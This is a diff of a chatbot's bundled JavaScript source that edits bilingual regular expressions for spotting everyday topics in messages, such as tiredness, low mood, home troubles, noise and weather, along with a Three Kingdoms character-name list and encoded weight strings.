-		"(?:只|就|才)?睡(?:了|到)?.{0,3}(?:[一两二三四五\\d]|半)(?:个)?(?:多)?(?:小时|钟头)|没(?:怎么)?睡(?:好|够|醒|饱|觉|着)?|通宵|熬(?:了|到|夜)|熬大夜|(?<!围|被|乐|谁|不)困(?:死|成|得不行|得要|得很|啊|傻)|(?:好|真|有点|太|犯)困(?!难|惑)|眼皮.{0,2}打架|睁不开眼|眼睛睁不开|(?:累|乏)(?:死|瘫|趴|成狗|坏)(?:了|我)?|(?:今天|最近|这周|天天).{0,6}累|\\b\\d+(?:\\.5)? ?(?:hrs?|hours?) (?:of )?sleep|slept (?:like |maybe |only |for |about )*(?:\\d|an hour|two|three|four)|(?:barely|hardly|no|zero|little|lack of) sle(?:pt|ep)|up all night|all[- ]?nighters?|sleep[- ]deprived|so (?:sleepy|tired|exhausted)|(?:i'?m|im|i am) (?:\\w+ )?(?:tired(?! of)|exhausted|wiped|knackered|drained|sleepy)|stayed up|dozing off|running on (?:fumes|\\w+ coffees?|\\d)|can'?t keep my eyes open"
+		"(?:只|就|才)?睡(?:了|到)?.{0,3}(?:[一两二三四五\\d]|半)(?:个)?(?:多)?(?:小时|钟头)|没(?:怎么)?睡(?:好|够|醒|饱|觉|着)?|通宵|熬(?:了|到|夜)|熬大夜|(?<!围|被|乐|谁|不)困(?:死|成|得不行|得要|得很|啊|傻)|(?:好|真|有点|太|犯)困(?!难|惑)|眼皮.{0,2}打架|睁不开眼|眼睛睁不开|(?:累|乏)(?:死|瘫|趴|成狗|坏)(?:了|我)?|(?:今天|最近|这周|天天).{0,6}累|\\b\\d+(?:\\.5)? ?(?:hrs?|hours?) (?:of )?sleep|slept (?:like |maybe |only |for |about )*(?:\\d|an hour|two|three|four)|(?:barely|hardly|no|zero|little|lack of) sle(?:pt|ep)|\\bsle(?:ep|eping) (?:like |maybe |only |about |just )*(?:\\d|two|three|four)|up all night|all[- ]?nighters?|sleep[- ]deprived|so (?:sleepy|tired|exhausted)|(?:i'?m|im|i am) (?:\\w+ )?(?:tired(?! of)|exhausted|wiped|knackered|drained|sleepy)|stayed up|dozing off|running on (?:fumes|\\w+ coffees?|\\d)|can'?t keep my eyes open"
 	],
 	[
 		"low",
@@ -28404,6 +28477,48 @@ const DAILY = [
 		"没人(?:喜欢|在乎|要|关心)我|\\bfeel(?:ing)? like a failure\\b|心情(?:不好|很?(?:差|糟|烂)|低落|down|跌)|(?:今天|最近|这几天|这两天|昨天|这阵子|这周|这日子).{0,8}(?:烦|难受|不顺|糟心|憋屈|委屈|难过|丧|崩溃|想哭|emo|水逆|熬不|过不下)|压力(?:好|太|山|真|有点)?大|(?:好|有点|很|真|太)(?:孤独|孤单|寂寞)|没人(?:陪|懂|理解)我|(?:生活|日子|人生).{0,4}(?:太难|没意思|一团糟|好难)|\\b(?:(?:bad|rough|awful|terrible|shitty|crappy|horrible|hard|tough|worst|long) (?:day|week|month|year)(?! (?:at work|for (?:you|seat|the)))|feel(?:ing)? (?:so |really |kinda |pretty |a bit )*(?:down|low|lonely|empty|awful|lost|blue)|(?:i'?m|im|i am|been) (?:so |really |just |kinda |super )*(?:lonely|stressed(?: out)?|sad|overwhelmed|homesick|miserable)|(?:day|week|month|year)(?:'s| has| is| was)? (?:been )?(?:an? )?(?:\\w+ )?(?:train ?wreck|nightmare|disaster|mess|hell)|stressed out|hard time(?:s)? (?:lately|right now|rn)|life (?:sucks|is hard|has been))\\b"
 	]
 ];
+
+// src/chatter/moves/life/matters/home.ts
+const HOME_TROUBLES = [
+	[
+		"kin_at_odds",
+		"family",
+		"(?:爸妈|父母|二老|我[爸妈].{0,3}我[爸妈]|他们俩)(?!.{0,4}[跟和]我).{0,8}(?:吵|打(?:起来|架)|摔(?!了一跤|倒)|闹离婚|冷战)|\\b(?:parents|folks|m[ou]m and dad|dad and m[ou]m)\\b.{0,24}\\b(?:fight(?:ing)?|fought|argu\\w+|yelling|screaming|at it)\\b(?! (?:with|at) me)"
+	],
+	[
+		"parting_words",
+		"love",
+		"[他她](?:搬?走|搬出去|离开|分手)(?:之?前|的时候|那天).{0,3}(?:说|留|骂)|[他她]说.{2,20}(?:然后|说完).{0,3}(?:搬|走|分手)|\\bs?he (?:said|told me) .{3,48}\\b(?:and|then) (?:just )?(?:left|moved out|walked out)\\b"
+	],
+	[
+		"quit",
+		"work",
+		"裸辞|(?<!推)辞(?:职|工作|掉工作|了算)|(?:工作|这班).{0,2}(?:辞|不干)了|想辞|\\b(?:quit(?:ting)?|leav(?:e|ing)) my job\\b|\\bquit (?:w/o|without|with no) .{0,12}job\\b|\\bhand(?:ing)? in my notice\\b"
+	]
+];
+const HOME = [
+	[
+		"called_home",
+		"family",
+		"(?:我[爸妈奶爷]|老婆|老公|媳妇).{0,8}(?:[喊叫催]我|锅铲)|[喊叫催]我.{0,3}[三四五六]遍|\\b(?:my )?(?:m[ou]m|dad|wife|gf)(?:'s| is)? (?:call|yell)ing (?:me|us)\\b|\\bdinner'?s (?:ready|getting cold)\\b"
+	],
+	[
+		"smell",
+		"food",
+		`${FOOD}.{0,8}(?:臭|味儿?[大重])|(?:室友|厨房|屋里|宿舍).{0,12}(?:臭|味儿?[大重])|\\b(?:flat|room|house|kitchen|place) (?:stinks?|smells?|reeks?)|\\b(?:stinks|smells|reeks) (?:of|like)\\b|\\bstinky\\b`
+	],
+	[
+		"noise",
+		"other",
+		"(?:楼[上下]|隔壁|邻居|室友).{0,8}(?:装修|施工|钻|蹦|打呼|放歌|吵)|电钻|\\b(?:neighbou?rs?|upstairs|next door|roommate)\\b.{0,16}\\b(?:drill\\w*|loud|nois[ey]|music|snor\\w+|blasting)\\b|\\bleaf blower\\b"
+	],
+	[
+		"work_tomorrow",
+		"time",
+		"(?:明天|又是?|又要)周一(?:[,]?.{0,4}救救?我)?|(?:明天|明早).{0,3}(?:上班|搬砖|早八|上学|开学)(?:[,]?.{0,4}救救?我)?|\\b(?:(?:monday|work|school) tomorrow|tomorrow(?:'s| is) (?:monday|work))(?:,? ?(?:kill|save|shoot|help) me)?\\b"
+	]
+];
+const isGrumble = (matter) => HOME.some(([one]) => one === matter);
 
 // src/chatter/moves/life/matters/near.ts
 const LOSSES = [
@@ -28432,7 +28547,7 @@ const NEAR4 = [
 	[
 		"kin_ill",
 		"health",
-		"CLOSE.{0,14}(?:住院|住进|icu|监护室|抢救|急诊|癌|肿瘤|中风|脑梗|心梗|心脏病|糖尿病|高血压|病(?!毒)|摔(?:了|断|倒|伤)|骨折|发烧|高烧|不行了|确诊|查出|车祸|阳了|老年痴呆)|(?:住院|抢救|确诊|病危|病重).{0,8}CLOSE|CLOSE.{0,36}\\b(?:hospital|icu|e\\.?r\\b|sick|ill|cancer|tumou?r|stroke|heart attack|dementia|alzheimer'?s|diagnosed|fever|covid|pneumonia|fell (?:down|and)|broke (?:his|her) (?:hip|leg|arm)|car (?:crash|accident))|\\b(?:hospital|icu)\\b.{0,20}CLOSE"
+		"CLOSE.{0,14}(?:住院|住进|icu|监护室|抢救|急诊|癌|肿瘤|中风|脑梗|心梗|心脏病|糖尿病|高血压|病(?!毒)|摔(?:断|倒|伤|了(?!.{0,3}[杯碗盘门瓶锅椅手东]))|骨折|发烧|高烧|不行了|确诊|查出|车祸|阳了|老年痴呆)|(?:住院|抢救|确诊|病危|病重).{0,8}CLOSE|CLOSE.{0,36}\\b(?:hospital|icu|e\\.?r\\b|sick|ill|cancer|tumou?r|stroke|heart attack|dementia|alzheimer'?s|diagnosed|fever|covid|pneumonia|fell (?:down|and)|broke (?:his|her) (?:hip|leg|arm)|car (?:crash|accident))|\\b(?:hospital|icu)\\b.{0,20}CLOSE"
 	],
 	[
 		"hurt",
@@ -28574,7 +28689,7 @@ const TALK2 = [
 	[
 		"cold",
 		"weather",
-		"(?<!手)(?:好|太|真|这么|超|贼|有点)冷(?!静|清|门|场|血|笑|板|淡|漠)|冷(?:死|得|哭|飕|成)(?!我了.{0,2}笑)|降温|零下.{0,3}度|冻(?:死|成|得|手|哭|傻)|下(?:大|暴)?雪|暖气|\\b(?:snow(?:ing|ed|y|storm)?|freezing(?: cold)?|(?:so|too|really) cold|cold (?:today|outside|in here|as hell|af)|below zero|blizzard|my heater)\\b"
+		"(?<!手)(?:好|太|真|这么|超|贼|有点)冷(?!静|清|门|场|血|笑|板|淡|漠)|冷(?:死|得|哭|飕|成)(?!我了.{0,2}笑)|降温|零下.{0,3}度|冻(?:死|成|得|手|哭|傻)|下(?:大|暴)?雪|暖气|\\b(?:snow(?:ing|ed|y|storm)?|freezing(?: cold)?|(?:so|too|really) cold|cold (?:today|outside|in here|as hell|af)|below zero|blizzard|heat(?:er|ing)|boiler|gloves)\\b"
 	],
 	[
 		"fine_day",
@@ -28663,11 +28778,13 @@ const TALK2 = [
 
 // src/chatter/moves/life/lexicon.ts
 const kinds = (rows, trouble) => rows.map(([matter, topic, words]) => ({ matter, topic, trouble, words: words.replace(/BOSS/g, BOSS) }));
-const MATTERS = [
+const MATTERS2 = [
 	...kinds(LOSSES, true),
 	...kinds(GOOD, false),
+	...kinds(HOME_TROUBLES, true),
 	...kinds(NEAR4, true),
 	...kinds(DAILY, true),
+	...kinds(HOME, false),
 	...kinds(TALK2, false)
 ];
 
@@ -28768,7 +28885,7 @@ const CLOSENESS = {
 	PET: closeOnes("pet")
 };
 var compiled4 = null;
-const matters = () => compiled4 ??= MATTERS.map((row) => ({
+const matters = () => compiled4 ??= MATTERS2.map((row) => ({
 	...row,
 	words: new RegExp(row.words.replace(/CLOSE|KIN|LOVE|FRIEND|PET/g, (name) => CLOSENESS[name] ?? name))
 }));
@@ -28787,62 +28904,78 @@ function* tryMatters(text) {
 		yield;
 	}
 }
-const topicOfMatter = (matter) => MATTERS.find((row) => row.matter === matter)?.topic ?? null;
+const topicOfMatter = (matter) => MATTERS2.find((row) => row.matter === matter)?.topic ?? null;
 
 // src/chatter/moves/life/heroes.ts
 const ROWS6 = [
-	["吕布", "奉先", "Lü Bu", "lu bu|lv bu"],
-	["关羽", "关公|关二爷|二爷|云长", "Guan Yu", "guan yu"],
-	["张飞", "翼德", "Zhang Fei", "zhang fei"],
-	["赵云", "子龙", "Zhao Yun", "zhao yun|zilong"],
-	["马超", "孟起", "Ma Chao", "ma chao"],
-	["黄忠", "黄老将军", "Huang Zhong", "huang zhong"],
-	["曹操", "孟德|曹老板", "Cao Cao", "cao cao"],
-	["刘备", "玄德|刘皇叔", "Liu Bei", "liu bei"],
-	["孙权", "仲谋", "Sun Quan", "sun quan"],
-	["诸葛亮", "孔明|诸葛(?![连瑾恪果诞瞻均])|卧龙", "Zhuge Liang", "zhuge liang|kongming|zhuge"],
-	["司马懿", "仲达", "Sima Yi", "sima yi"],
-	["周瑜", "公瑾|周郎", "Zhou Yu", "zhou yu"],
-	["典韦", "", "Dian Wei", "dian wei"],
-	["许褚", "", "Xu Chu", "xu chu"],
-	["张辽", "文远", "Zhang Liao", "zhang liao"],
-	["貂蝉", "", "Diaochan", "diao ?chan"],
-	["大乔", "", "Da Qiao", "da qiao"],
-	["小乔", "", "Xiao Qiao", "xiao qiao"],
-	["甄姬", "甄宓", "Zhen Ji", "zhen ji"],
-	["孙尚香", "", "Sun Shangxiang", "sun shang ?xiang"],
-	["黄月英", "", "Huang Yueying", "huang yue ?ying"],
-	["蔡文姬", "蔡琰", "Cai Wenji", "cai wen ?ji"],
-	["郭嘉", "奉孝", "Guo Jia", "guo jia"],
-	["荀彧", "", "Xun Yu", "xun yu"],
-	["贾诩", "", "Jia Xu", "jia xu"],
-	["陆逊", "", "Lu Xun", "lu xun"],
-	["吕蒙", "", "Lü Meng", "lu meng|lv meng"],
-	["鲁肃", "", "Lu Su", "lu su"],
-	["华佗", "", "Hua Tuo", "hua tuo"],
-	["董卓", "", "Dong Zhuo", "dong zhuo"],
-	["袁绍", "", "Yuan Shao", "yuan shao"],
-	["夏侯惇", "", "Xiahou Dun", "xiahou dun"],
-	["夏侯渊", "", "Xiahou Yuan", "xiahou yuan"],
-	["甘宁", "", "Gan Ning", "gan ning"],
-	["孙策", "伯符", "Sun Ce", "sun ce"],
-	["孙坚", "", "Sun Jian", "sun jian"],
-	["太史慈", "", "Taishi Ci", "taishi ci"],
-	["姜维", "", "Jiang Wei", "jiang wei"],
-	["邓艾", "", "Deng Ai", "deng ai"],
-	["庞统", "凤雏", "Pang Tong", "pang tong"],
-	["魏延", "", "Wei Yan", "wei yan"],
-	["张角", "", "Zhang Jiao", "zhang jiao"],
-	["左慈", "", "Zuo Ci", "zuo ci"],
-	["于吉", "", "Yu Ji", "yu ji"],
-	["刘禅", "阿斗", "Liu Shan", "liu shan|adou"],
-	["孟获", "", "Meng Huo", "meng huo"],
-	["陈宫", "", "Chen Gong", "chen gong"],
-	["马谡", "", "Ma Su", "ma su"]
+	["吕布", "Lü Bu", "奉先"],
+	["关羽", "Guan Yu", "关公|关二爷|二爷|云长"],
+	["张飞", "Zhang Fei", "翼德"],
+	["赵云", "Zhao Yun", "子龙|\\bzilong\\b"],
+	["马超", "Ma Chao", "孟起"],
+	["黄忠", "Huang Zhong", "黄老将军"],
+	["曹操", "Cao Cao", "孟德|曹老板"],
+	["刘备", "Liu Bei", "玄德|刘皇叔"],
+	["孙权", "Sun Quan", "仲谋"],
+	["诸葛亮", "Zhuge Liang", "孔明|诸葛(?![连瑾恪果诞瞻均])|卧龙|\\b(?:kongming|zhuge)\\b"],
+	["司马懿", "Sima Yi", "仲达"],
+	["周瑜", "Zhou Yu", "公瑾|周郎"],
+	["典韦", "Dian Wei"],
+	["许褚", "Xu Chu"],
+	["张辽", "Zhang Liao", "文远"],
+	["貂蝉", "Diaochan"],
+	["大乔", "Da Qiao"],
+	["小乔", "Xiao Qiao"],
+	["甄姬", "Zhen Ji", "甄宓"],
+	["孙尚香", "Sun Shangxiang"],
+	["黄月英", "Huang Yueying"],
+	["蔡文姬", "Cai Wenji", "蔡琰"],
+	["郭嘉", "Guo Jia", "奉孝"],
+	["荀彧", "Xun Yu"],
+	["贾诩", "Jia Xu"],
+	["陆逊", "Lu Xun"],
+	["吕蒙", "Lü Meng"],
+	["鲁肃", "Lu Su"],
+	["华佗", "Hua Tuo"],
+	["董卓", "Dong Zhuo"],
+	["袁绍", "Yuan Shao"],
+	["夏侯惇", "Xiahou Dun"],
+	["夏侯渊", "Xiahou Yuan"],
+	["甘宁", "Gan Ning"],
+	["孙策", "Sun Ce", "伯符"],
+	["孙坚", "Sun Jian"],
+	["太史慈", "Taishi Ci"],
+	["姜维", "Jiang Wei"],
+	["邓艾", "Deng Ai"],
+	["庞统", "Pang Tong", "凤雏"],
+	["魏延", "Wei Yan"],
+	["张角", "Zhang Jiao"],
+	["左慈", "Zuo Ci"],
+	["于吉", "Yu Ji"],
+	["刘禅", "Liu Shan", "阿斗|\\badou\\b"],
+	["孟获", "Meng Huo"],
+	["陈宫", "Chen Gong"],
+	["马谡", "Ma Su"],
+	["刘谌", "Liu Chen"],
+	["左棻", "Zuo Fen"],
+	["唐周", "Tang Zhou"],
+	["张星彩", "Zhang Xingcai"],
+	["曹叡", "Cao Rui"],
+	["曹丕", "Cao Pi"],
+	["曹植", "Cao Zhi"],
+	["徐庶", "Xu Shu"],
+	["黄盖", "Huang Gai"],
+	["于禁", "Yu Jin"],
+	["文鸳", "Wen Yuan"],
+	["王允", "Wang Yun"],
+	["司马炎", "Sima Yan"],
+	["祝融", "Zhu Rong"],
+	["凯撒", "Caesar"]
 ];
-const COMPILED2 = ROWS6.map(([zh, also, en, called]) => ({
+const latin4 = (en) => Array.from(en.toLowerCase().replace(/ /g, ""), (one) => one === "ü" ? "[uvü]" : one).join(" ?");
+const COMPILED2 = ROWS6.map(([zh, en, also]) => ({
 	hero: { zh, en },
-	words: new RegExp(`${zh}${also === "" ? "" : `|${also}`}|\\b(?:${called})\\b`)
+	words: new RegExp(`${zh}|\\b${latin4(en)}\\b${also === void 0 ? "" : `|${also}`}`)
 }));
 const HEROES = COMPILED2.map(({ hero }) => hero);
 const heroesNamed = (text) => COMPILED2.map(({ hero, words }) => ({ hero, at: text.search(words) })).filter(({ at }) => at >= 0).sort((a, b) => a.at - b.at).map(({ hero }) => hero);
@@ -28880,24 +29013,12 @@ function heroKindIn(text, named, whole = false) {
 // src/chatter/moves/topics.ts
 const TOPICS2 = [
 	[
-		"loss",
-		/(?:去世|过世|走了(?=.*(?:爷爷|奶奶|外公|外婆|爸|妈|亲人|朋友))|(?:爷爷|奶奶|外公|外婆|姥姥|姥爷|爸爸?|妈妈?|亲人|狗|猫|宠物).{0,6}(?:走了|没了|去世|不在了|死了)|葬礼|丧事|追悼|离世|病逝|没(?:能)?救(?:回来|过来|活)(?=.*(?:猫|狗|宠物|奶|爷|爸|妈|公|婆))|(?:猫|狗|宠物|奶奶?|爷爷?|爸|妈|公|婆).{0,8}没(?:能)?救(?:回来|过来|活))|\b(?:passed away|funeral|(?:my|our) (?:dad|father|mom|mum|mother|grandma|grandpa|grandmother|grandfather|dog|cat|friend|brother|sister|uncle|aunt) (?:just )?(?:died|is gone|passed))\b/
-	],
-	[
-		"health",
-		/住院|监护室|\bicu\b|肿瘤|癌(?!杀)|糖尿病|心脏病|高血压|抑郁|车祸|(?:摔|断|瘸)了?(?:腿|胳膊|手臂)|(?:腿|胳膊|手臂)(?:摔)?断|生病|感冒|发烧|高烧|发热|医院|手术|看病|看医生|检查(?:结果|出)|确诊|骨折|胃(?:疼|痛|病)|牙(?:疼|痛)|头(?:疼|痛|晕)|肚子(?:疼|痛)|嗓子|咳嗽|过敏|吃药|体检|病(?:了|倒|情|假)|受伤(?!害)|拉肚子|腰(?:疼|痛|椎)|颈椎|不舒服|阳了|新冠|\b(?:sick|hospital|fever|flu|headache|surgery|doctor|cold(?= .*(?:caught|have|got))|caught a cold|toothache|injured|diagnos\w*|covid|unwell|stomach ?ache|broke my (?:arm|leg))\b/
-	],
-	[
-		"love",
-		/分手|失恋|冷战|忘不(?:了|掉)[他她]|暗恋|表白|告白|恋爱|对象|女朋友|男朋友|女友|男友|前任|前女友|前男友|老婆|老公|结婚|离婚|相亲|单身|被甩|劈腿|出轨|约会|追(?:女|男)(?:生|孩)|\b(?:broke up|break ?up|dumped|girlfriend|boyfriend|wife|husband|crush|dating|divorc\w*|single again|my ex|in love|got married|wedding|cheated on)\b/
-	],
-	[
 		"work",
 		/(?<!谢谢?|赏钱.{0,3})老板(?!赏)|上司|领导|同事|加班|上班|下班|工作|辞职|离职|失业|裁员|被裁|面试|公司|项目|甲方|客户|工资|升职|出差|996|摸鱼|简历|开会|绩效|\b(?:my boss|boss (?:is |was |keeps )?(?:call|yell|scream|text|email)\w*|work(?:ing)? (?:late|overtime)|overtime|my job|at work|from work|after work|office|co-?workers?|colleagues?|fired|laid off|job interview|promotion|quit my job|meeting|deadline)\b/
 	],
 	[
 		"study",
-		/辅导员|点名|早八|考试|考研|高考|中考|期末|期中|作业|论文|学校|上课|老师|挂科|成绩|学习|复习|毕业|答辩|同学|宿舍|考砸|考(?:了|得|上|完)|背书|四级|六级|奥数|\b(?:exams?|homework|school|college|university|class(?:es)?|teacher|thesis|grades?|studying|study|finals|graduat\w*|failed my|test tomorrow)\b/
+		/辅导员|(?<!敢)点名|早八|考试|考研|高考|中考|期末|期中|作业|论文|学校|上课|老师|挂科|成绩|学习|复习|毕业|答辩|同学|宿舍|考砸|考(?:了|得|上|完)|背书|四级|六级|奥数|\b(?:exams?|homework|school|college|university|class(?:es)?|teacher|thesis|grades?|studying|study|finals|graduat\w*|failed my|test tomorrow)\b/
 	],
 	[
 		"sleep",
@@ -28906,18 +29027,6 @@ const TOPICS2 = [
 	[
 		"family",
 		/我(?:妈|爸|哥|姐|弟|妹|奶奶|爷爷|外婆|外公|姥姥|儿子|女儿|孩子|家人|爹|娘|爸妈|父母|闺女|丫头)|家里(?:人)?|父母|爸妈|吵架|回家|孩子|带娃|娃|\b(?:my (?:mom|mum|mother|dad|father|brother|sister|son|daughter|kids?|parents?|family|grandma|grandpa))\b/
-	],
-	[
-		"weather",
-		/天气|下雨|下雪|太阳|台风|降温|升温|好冷|好热|真冷|真热|冷死|热死|太热|太冷|刮风|雾霾|打雷|空调|出太阳|\b(?:weather|rain(?:ing|y)?|snow(?:ing)?|sunny|storm|typhoon|cold outside|hot today|so (?:hot|cold)|freezing)\b/
-	],
-	[
-		"food",
-		/吃(?:饭|了吗|什么|啥|的什么|宵夜|夜宵|早饭|午饭|晚饭|火锅|烧烤|过饭|饱|撑)|饿(?:了|死|啊|$)|好饿|火锅|烧烤|奶茶|外卖|宵夜|夜宵|早饭|午饭|晚饭|咖啡|零食|做饭|好吃|泡面|螺蛳粉|喝(?:茶|水|奶茶|咖啡|啤酒|醉)|\b(?:eat(?:ing)?|ate|dinner|lunch|breakfast|hungry|food|pizza|hotpot|coffee|tea|snacks?|noodles|cook(?:ing)?|starving|drunk)\b/
-	],
-	[
-		"money",
-		/没钱|骗(?:了|走).{0,5}[块万钱]|被.{0,4}骗钱|穷|工资|股票|基金|房贷|房租|花呗|还款|彩票|涨(?:停|跌)|亏了?(?:钱|不少|好多)|赚(?:钱|了)|破产|欠(?:钱|债)|存款|理财|比特币|双十一|剁手|红包|\b(?:money|broke(?! (?:up|my))|salary|rent|stocks?|crypto|bitcoin|lottery|debts?|mortgage|paid|expensive)\b/
 	],
 	[
 		"luck",
@@ -28930,10 +29039,6 @@ const TOPICS2 = [
 	[
 		"time",
 		/几点|时间(?:不早|过得|还早|到了)|这么晚|好晚|天(?:黑|亮)了|周末|周[一二三四五六日]|星期|明天|昨天|今晚|假期|放假|国庆|春节|过年|中秋|生日|\b(?:what time|so late|weekend|monday|tuesday|wednesday|thursday|friday|saturday|sunday|tomorrow|yesterday|tonight|holiday|birthday|christmas|new year)\b/
-	],
-	[
-		"news",
-		/新闻|热搜|世界杯|欧冠|奥运|球赛|比赛(?:看|结果)|足球|篮球|nba|电影|电视剧|综艺|明星|动漫|番|小说|演唱会|音乐|歌|直播|抖音|b站|微博|王者荣耀|原神|lol比赛|英雄联盟|吃鸡|新版本|更新|\b(?:news|world cup|football|soccer|basketball|movies?|film|tv show|series|anime|song|music|concert|twitter|youtube|tiktok|olympics|novel|game of)\b/
 	]
 ];
 function topicOf(text) {
@@ -29043,53 +29148,53 @@ const levelIn = (row, place) => row.charCodeAt(place) - NOUGHT;
 
 // src/chatter/moves/lately-weights.ts
 const STEP2 = 0.1;
-const ALWAYS = "okugroptkopwkmfronrprsmosopnoovomqkkpnplolmlmiilnrmmklqikmlnnsjjlmkmlj";
+const ALWAYS = "nkugroptkopvkmeronrprrmosopnoovomqkkonplolmlmiimnrmmklrikmlonrjjlmkmlj";
 const LATELY2 = {
-	early: "omrnmnnommnnpmmolmmmplnlqnnmmnmonllnmnmlonmnmmnoornnnmtnmpmnnonnmmnmnn",
-	fell: "nnonmlnqponlnmmqosmmoommmppmpomlqnmnmnmnnnmmmlnmnmqnnnnnnnmmnnnmnnnmnn",
-	fell_lap: "omnlnkmroopqlmlpnnnnoploonpmnonnppplnnnpononllnmmkqlmomlnmmqmlmmnonlmm",
-	gave: "nmmnommpnnmlnmmmnnmprttmnmoommomonnmnnommnonmnnnmomnnnnnnnmnnmmnnnnmnn",
-	helped: "lnnnmoonnomonnnonovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnnnmmnnnonnn",
-	helped_by_you: "lnnnomonmoomnnnmmqvplnnnomnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
+	early: "omrnmnnommnnpmmolmmmplnlqnnmmnmonllnmnmlonmnmmnoosnnnmsnmpnnnonnmmnmnn",
+	fell: "nnonmlnqponlnmmqormmoommmppmpomlqnmnmnmnnnmmmlnmnmqnnnnnnnmmnnnmnnnmnn",
+	fell_lap: "omnlnkmroopqlmlpnnnnoploonpmnonnppolnnnpononllnmmkqlmommnmmqnlmmnonlmm",
+	gave: "nmmnommpnnmmnmmmnnmqrttmnmoommomonnmnnommnonmnnnmomnnnnnnnmnnmmnnnnmnn",
+	helped: "lnnnmoonnomonnnnnovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnnnmmnnnonnn",
+	helped_by_you: "lnnnomonmoomnnnmmqvplnnnonnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
 	killed: "mnonnnnoplnnonnnnmnnpronononnmomomnnmnnnnnnnnnnnonnnnnnnnnnmnmnnnnnnnn",
 	laid: "nnnnnnnonnnpnnonnnnnnnnmnnnnnnoonnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	late: "monnlnmpnpmpmnnnomolmpmpmnpmooqlmpmnmnnnmnoonnpnmmmmnonnonnnnnnnmmnnnn",
-	lord: "mmsmmmplmnnslmnoqnqmnmoqonnnpmqmmonmnnmlononnnmnnolmnmmmmmnpnlmnmmmpnn",
+	late: "monnlnmpnpnpmnnnomolmpmpmnpmooqlmpmnmnnmmnoonnommmmmnonnonnonnnnmmnnnn",
+	lord: "mmsmmmplmnnslmnoqnqmnmoqonnnpmqmmonmnnmkononnnmnnolmnmmmmmnpnlmnmmmpnn",
 	low: "pokmllnnmomrnmnopnpmkmnopnlnopnnopqmqmnpnnpmonmolmpmnommnmmnmmnnnnnmnm",
-	mine: "oopmlnnmmmlkmmnopoonponjnusqmnnnmjnmmnonknpnnnolooopnnmmnmnomnnmnmnpnn",
-	quiet: "omrmjmmpmnkmnnmnlkllnmooonnmopqpmnlnompsmnopmmmoopmmmmrnnpnoonmnnmmmnn",
-	struck: "lnmmnnnqonmoommnkmnpuwomqmmpllqmnpnmmmnmmmonnmnnnmlmnnnmnmmonmnnnmmmnn",
-	struck_by: "nnlnponpnnnmomnntoqmkmnroonnnmnlnmommmnmnmnnononmnonnnmmnmmnmonmmnmnnn",
-	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmmomnnmmnnmlnonnnnnmnn",
+	mine: "onpmlnnlmmlkmmnopoonponjnusqmnnnmjnmmnonlnpnnnolooopnnmmnmmomnnmnmnpnn",
+	quiet: "omrmjmmpmnkmnnmnlkllnmooonnmopqpmnlnnmpsmnopmmmoopmmmmrnnonoonmnnmmmnn",
+	struck: "lnmmnnnqonmoommnkmnpuwomrmmplkqmnpmmmmnmmmonnmnnnmlmnmnmnmmommnnnmmmnn",
+	struck_by: "nnlnponpnnolomnmtoqmkmnroonnnmnlnmommmnmnmnnononmnonnnmmnmmnmonmmnmnnn",
+	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmlomnnmmnnmlnonnnnnmnn",
 	struck_you: "nnnnmpmmnonnnmmmlmoqrqnoqmpmmmrmnmmnonnmmnonnmnnnmnnnnnnnnmononnnnnnnn",
-	third: "mmqmrrmnponspnlnnnnplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmnlmnmmmmnn",
-	third_dead: "nnmnmmnoqonmnonnonnnnononnnnppmnplnnnnnnnnnnonnnnmonnnnnmnnnnmnnnnnnnn",
-	third_fell: "nnmnmmnornnnnonnmonnnonnnnnnopmnplnnnnnnnnmnnnnnnnonnnnnmnnnnnnnnnnnnn",
+	third: "mmqmrrmnponspnlnnnmplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmnlmnmmmmnn",
+	third_dead: "nnmnmmnoqonmnonnnnnnnononnnnppmnplnnnnnnnnnnonnnnmonnnnnmnnnnmnnnnnnnn",
+	third_fell: "nnmnmmnornnnnonnmonnnonnnnnnopmnplnnnnnnnnmnnnnnnnonnnnnmnnonnnnnnnnnn",
 	third_helped: "nnonooonnnnnonnonnnonmnnnnnnnnnonmnnnnnonnnnnmnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlmmmnookppmompnnpommmmnmmmonnnnnmnmnnnnnnnnnnn",
-	third_hit_by_me: "nnnnnnnopnnnnmnnnnnpmonnnnnnnmnnopmnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit_by_you: "nnnnnrnnnonqmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_lord: "nmmnmsmonnnlopmonnopmonmmnnnnlmpnnnnlpnpoonnmnnomnnnnnnnnnnnnnnnnnnnnn",
-	third_low: "mnnmnonnpnmpolnmopnpmpnnlmmmonnlooloopoooonmnnmmolonnnnnmnnnnnmnnnnnnn",
+	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlmmmnookppmompnnpommmmnmmmnnnnnnmnnnnnnnnnnnnn",
+	third_hit_by_me: "nnnnnnnopnnnnmnnnnnomonnnnnnnmnnopmnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
+	third_hit_by_you: "nnnnnrnnnonpmqmpmpnnnnnnnnnnomnlmmnnnonnpnnnnnnnmnnnnnnnnnnnnnnnnnnnnn",
+	third_lord: "nmmnmsmonnolopmonnoomonmmnnnnlmpnnnnlpnpoonnmnnomnnnnnnnnnnnnnnnnnnnnn",
+	third_low: "mnnmnonnpnmpolnmopnpmpnnlmmmonnloolooooooonmnnmmolonnnnnmnnnnnmnnnnnnn",
 	third_on_turn: "nnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnoonnnnnnnnnnmnnnnnnnnnn",
-	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmomnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
+	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmnmnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
